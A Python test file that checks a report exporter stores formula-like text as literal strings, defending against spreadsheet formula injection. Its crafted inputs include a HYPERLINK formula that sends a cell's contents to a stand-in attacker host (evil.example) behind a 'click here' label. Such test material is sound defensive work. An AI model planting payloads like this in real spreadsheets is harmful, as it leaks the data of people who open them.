"""Text that looks like a formula is written as text: openpyxl reads it back as a string, and LibreOffice
shows it literally instead of evaluating it."""

from __future__ import annotations

import csv

import pytest
from openpyxl import Workbook, load_workbook

from reports.cells import put, put_formula
from tests.libreoffice import convert
from tests.reports.conftest import needs_libreoffice

CRAFTED = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Bấm vào đây")',
    "+1+2",
    "-3+4",
    "@SUM(1,2)",
    "\t=1+1",
    "=1+1",
]


@pytest.fixture
def workbook_file(tmp_path):
    wb = Workbook()
    ws = wb.active
    for row, text in enumerate(CRAFTED, start=1):
        put(ws.cell(row, 1), text)
    put(ws.cell(1, 2), "Mộ Lao")
    put_formula(ws.cell(1, 3), "SUM(4,5)", "count")
    path = tmp_path / "crafted.xlsx"
    wb.save(path)
    return path


def test_formula_like_text_is_stored_as_a_string_with_the_quote_prefix(workbook_file):
    ws = load_workbook(workbook_file).active
    for row, text in enumerate(CRAFTED, start=1):
        cell = ws.cell(row, 1)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    assert (ws.cell(1, 2).data_type, ws.cell(1, 2).quotePrefix) == ("s", False)
    assert (ws.cell(1, 3).value, ws.cell(1, 3).data_type) == ("=SUM(4,5)", "f")  # the report's own formula


def test_characters_a_workbook_cannot_hold_are_dropped(tmp_path):
    wb = Workbook()
    put(wb.active.cell(1, 1), "tệp\x00\x07 lỗi")
    wb.save(tmp_path / "x.xlsx")
    assert load_workbook(tmp_path / "x.xlsx").active.cell(1, 1).value == "tệp lỗi"


@needs_libreoffice
def test_libreoffice_shows_the_text_and_evaluates_only_the_real_formula(workbook_file, tmp_path):
    converted = convert(workbook_file, "csv:Text - txt - csv (StarCalc):44,34,76", tmp_path / "out")
    with open(converted, encoding="utf-8", newline="") as f:
        rows = list(csv.reader(f))
    assert [r[0] for r in rows] == CRAFTED
    # "9 ": the count format pads every figure on the right (cells.PAD), and the CSV is the cells as shown
    assert rows[0][1:] == ["Mộ Lao", "9 "]
